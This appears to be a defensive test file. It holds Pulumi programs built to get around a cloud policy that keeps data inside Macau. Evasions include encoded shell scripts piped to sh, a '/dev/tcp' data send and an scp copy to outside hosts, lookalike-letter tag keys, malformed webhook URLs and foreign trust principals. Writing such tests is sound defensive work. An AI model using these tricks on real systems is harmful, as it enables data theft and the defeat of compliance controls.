"""Programs by which somebody clever would get round the rules (A-W), tried here first.

Each one passed when it was written; the rule that now stops it was sharpened for it.
"""

import base64
import json
import lzma
import textwrap
from typing import Any

import pulumi

from tests.policies.programs.kit import (
    FOREIGN,
    HERE,
    TAGS,
    ZONE,
    bucket,
    case,
    make,
)

SCRIPT = "#!/bin/sh\nossutil cp -r /data oss://backup -e oss-us-west-1.aliyuncs.com\n"


def packed(raw: bytes) -> str:
    """Return bytes in base64."""
    return base64.b64encode(raw).decode()


def command(content: str) -> None:
    """Declare a script that runs on servers."""
    make("ecs.Command", name="x", type="RunShellScript", command_content=content)


def network() -> Any:
    """Declare an owned network."""
    return make("vpc.Network", "net", cidr_block="10.32.0.0/20", tags=TAGS)


def declared(token: str, name: str = "x", /, **inputs: object) -> pulumi.CustomResource:
    """Declare a type by its token, past the classes of the SDK."""
    made = make("vpc.Network", f"for-{name}", cidr_block="10.32.0.0/20", tags=TAGS)
    options = pulumi.ResourceOptions(provider=made._provider)  # noqa: SLF001
    return pulumi.CustomResource(token, name, inputs, options)


@case("A-W01", "foreign_place_in_text")
def script_broken_over_lines() -> None:
    """A script in base64, broken into lines of twelve letters."""
    command("\n".join(textwrap.wrap(packed(SCRIPT.encode()), 12)))


@case("A-W02", "foreign_place_in_text")
def script_in_another_packing() -> None:
    """A script packed with xz, in base64."""
    command(f"echo {packed(lzma.compress(SCRIPT.encode()))} | base64 -d | xz -d | sh")


@case("A-W03", "foreign_place_in_text")
def script_with_variables() -> None:
    """A region put together from variables of a shell."""
    command("A=cn-hong; B=kong\nossutil cp /d oss://b --region ${A}$B\n")


@case("A-W04", "foreign_place_in_text")
def copy_without_a_url() -> None:
    """A copy by scp to an address."""
    command("scp -r /data root@8.8.8.8:/backup\n")


@case("A-W05", "foreign_place_in_text")
def shell_without_a_program() -> None:
    """A file written to a device that is a connection."""
    command("cat /data > /dev/tcp/collector.evil.example/443\n")


@case("A-W06", "foreign_place_in_text")
def function_tells_a_collector() -> None:
    """A function whose environment names a host and a port."""
    declared("alicloud:fc/v3Function:V3Function", functionName="f", handler="x",
             runtime="python3", tags=TAGS,
             environmentVariables={"SINK": "collector.evil.example:443"})  # fmt: skip


@case("A-W07", "foreign_place_in_text")
def image_of_another_registry() -> None:
    """A function whose image comes from a registry that no list has."""
    declared("alicloud:fc/v3Function:V3Function", functionName="f", handler="x",
             runtime="custom-container", tags=TAGS,
             customContainerConfig={"image": "images.evil.example/a:1"})  # fmt: skip


@case("A-W08", "parent_not_owned")
def name_from_a_tag() -> None:
    """Objects in a bucket whose name stands in a tag of an owned one."""
    held = bucket("own", tags=TAGS | {"note": "foreign-bucket"})
    name = held.tags.apply(lambda tags: tags["note"])
    make("oss.BucketObject", bucket=name, key="x", content="x")


@case("A-W09", "parent_not_owned")
def name_of_a_group() -> None:
    """Objects in somebody's bucket, after which a security group is named."""
    make("ecs.SecurityGroup", "g", name="foreign-bucket", vpc_id=network().id,
         tags=TAGS)  # fmt: skip
    make("oss.BucketObject", bucket="foreign-bucket", key="x", content="x")


@case("A-W10", "log_outside_macau")
def name_of_a_database() -> None:
    """Logs exported to somebody's bucket, after which a database is named."""
    make("rds.Instance", "db", engine="MySQL", engine_version="8.0", zone_id=ZONE,
         instance_storage=20, instance_type="mysql.n2.small.1", tags=TAGS,
         instance_name="foreign-bucket")  # fmt: skip
    logs = make("log.Project", "logs", project_name="mogov-logs", tags=TAGS)
    make("log.OssShipper", project_name=logs.project_name, logstore_name="s",
         shipper_name="x", oss_bucket="foreign-bucket", path_format="%Y", format="json",
         buffer_interval=300, buffer_size=128)  # fmt: skip


@case("A-W11", "key_not_registered")
def name_of_a_secret() -> None:
    """A file system under somebody's key, after which a secret is named."""
    named = {"secret_name": "key-abroad", "secret_data": "x", "version_id": "1"}
    make("kms.Secret", "s", tags=TAGS, **named)
    make("nas.FileSystem", "f", protocol_type="NFS", storage_type="Performance",
         encrypt_type=2, kms_key_id="key-abroad", tags=TAGS)  # fmt: skip


@case("A-W12", "package_not_allowed")
def provider_of_our_name() -> None:
    """A plug-in that calls itself as the platform does."""
    pulumi.ProviderResource("gov-cloud", "p", {})


@case("A-W13", "tag_syntax_invalid")
def second_owner_in_wide_letters() -> None:
    """A second owner under a key in full-width letters."""
    bucket(tags=TAGS | {"\uff47\uff4f\uff56-owner": "somebody"})


@case("A-W14", "tag_syntax_invalid")
def second_owner_with_an_invisible_letter() -> None:
    """A second owner under a key with a letter of no width."""
    bucket(tags=TAGS | {"gov-owner\u200b": "somebody"})


@case("A-W15", "tag_syntax_invalid")
def second_owner_in_foreign_letters() -> None:
    """A second owner under a key with a Cyrillic letter."""
    bucket(tags=TAGS | {"g\u043ev-owner": "somebody"})


@case("A-W16", "tag_syntax_invalid")
def person_in_a_tag() -> None:
    """A person's address in a tag, which Law 8/2005 protects."""
    bucket(tags=TAGS | {"contact": "maria@safp.gov.mo"})


def alarm(webhook: str) -> None:
    """Declare an owned alarm with a webhook."""
    make("cms.Alarm", metric="x", project="acs_ecs_dashboard", contact_groups=["x"],
         webhook=webhook, tags=TAGS)  # fmt: skip


@case("A-W17", "url_outside_macau")
def webhook_with_one_slash() -> None:
    """A webhook with one slash, which many programs take for two."""
    alarm("https:/evil.example/x")


@case("A-W18", "url_outside_macau")
def webhook_that_looks_like_a_path() -> None:
    """A webhook that begins like a path and leads to a host."""
    alarm("/\\evil.example/x")


@case("A-W19", "url_outside_macau")
def push_with_a_wide_dot() -> None:
    """A subscription whose host has a full-width dot."""
    topic = make("message.ServiceTopic", "t", topic_name="t", tags=TAGS)
    make("message.ServiceSubscription", topic_name=topic.topic_name, push_type="http",
         subscription_name="x", endpoint="evil\uff0eexample")  # fmt: skip


def role(document: object) -> None:
    """Declare an owned role with a trust document."""
    make("ram.Role", role_name="x", tags=TAGS,
         assume_role_policy_document=json.dumps(document))  # fmt: skip


@case("A-W20", "foreign_principal_admitted", undetermined=True)
def trust_with_small_letters() -> None:
    """A trust whose key is in small letters, which readers may take or leave."""
    trusted = {"RAM": [f"acs:ram::{FOREIGN}:root"]}
    role({"Statement": [{"Effect": "Allow", "principal": trusted}]})


@case("A-W21", "foreign_principal_admitted")
def trust_without_a_document() -> None:
    """A trust by the older input, which holds users and no document."""
    declared("alicloud:ram/role:Role", name="x", tags=TAGS,
             ramUsers=[f"acs:ram::{FOREIGN}:root"])  # fmt: skip


@case("A-W22", "foreign_resource_reached")
def policy_without_a_document() -> None:
    """A policy by the older inputs, that writes to any bucket."""
    statement = {"effect": "Allow", "actions": ["oss:PutObject"], "resources": ["*"]}
    declared("alicloud:ram/policy:Policy", name="x", tags=TAGS,
             statements=[statement])  # fmt: skip


@case("A-W23", "network_link_outside_macau")
def gateway_to_another_region() -> None:
    """A gateway endpoint whose service is of another region."""
    declared("alicloud:vpc/gatewayEndpoint:GatewayEndpoint", vpcId=network().id,
             serviceName="com.aliyun.cn-hangzhou.oss", tags=TAGS)  # fmt: skip


@case("A-W24", "network_link_outside_macau")
def name_leads_abroad() -> None:
    """A private name that leads to an address abroad."""
    zone = make("pvtz.Zone", "z", zone_name="z.example", tags=TAGS)
    make("pvtz.ZoneRecord", zone_id=zone.id, rr="oss", type="A", value="8.8.8.8")


@case("A-W25", "network_link_outside_macau")
def server_abroad_behind_a_balancer() -> None:
    """A group of servers behind a balancer, one of them abroad."""
    server = {"serverId": "8.8.8.8", "serverIp": "8.8.8.8", "serverType": "Ip"}
    declared("alicloud:alb/serverGroup:ServerGroup", serverGroupName="x", tags=TAGS,
             vpcId=network().id, servers=[server])  # fmt: skip


@case("A-W26", "foreign_identity_provider")
def directory_abroad() -> None:
    """A bastion host that asks a directory abroad who somebody is."""
    directory = {"server": "ad.evil.example", "port": 389, "isSsl": True}
    declared("alicloud:bastionhost/instance:Instance", licenseCode="x", tags=TAGS,
             adAuthServers=[directory])  # fmt: skip


@case("A-W27", "transmission_outside_macau")
def host_below_another_key() -> None:
    """A data source whose host stands in JSON in a text of JSON."""
    project = make("dataworks.Project", "p", project_name="p", display_name="p",
                   description="p", pai_task_enabled=False, tags=TAGS)  # fmt: skip
    inner = json.dumps({"host": {"value": "db.evil.example"}})
    make("dataworks.DataSource", project_id=project.id, type="mysql",
         data_source_name="x", connection_properties_mode="UrlMode",
         connection_properties=json.dumps({"x": inner}))  # fmt: skip


@case("A-W28", "address_range_open")
def everybody_in_ipv6() -> None:
    """A file system open to everybody, in the other kind of address."""
    group = make("nas.AccessGroup", "g", access_group_name="g", access_group_type="Vpc")
    make("nas.AccessRule", access_group_name=group.access_group_name, priority=1,
         ipv6_source_cidr_ip="::/0")  # fmt: skip


@case("A-W29", "secret_or_data_in_output")
def records_as_one_text() -> None:
    """Records exported as one text of JSON."""
    pulumi.export("people", json.dumps([{"name": "a", "id": 1}]))


@case("A-W30", "secret_or_data_in_output")
def records_as_a_table() -> None:
    """Records exported as a table in a text."""
    pulumi.export("people", "name;id\na;1\nb;2\n")


@case("A-W31", "replication_outside_macau")
def place_changed_by_a_transformation() -> None:
    """A replication inside Macau that a transformation sends abroad."""

    def abroad(
        args: pulumi.ResourceTransformationArgs,
    ) -> pulumi.ResourceTransformationResult:
        props = dict(args.props) | {"destination": {"location": "oss-cn-hongkong"}}
        return pulumi.ResourceTransformationResult(props, args.opts)

    held = bucket()
    options = pulumi.ResourceOptions(
        provider=held._provider,  # noqa: SLF001
        transformations=[abroad],
    )
    make("oss.BucketReplication", bucket=held.bucket, action="ALL", opts=options,
         destination={"location": f"oss-{HERE}"})  # fmt: skip
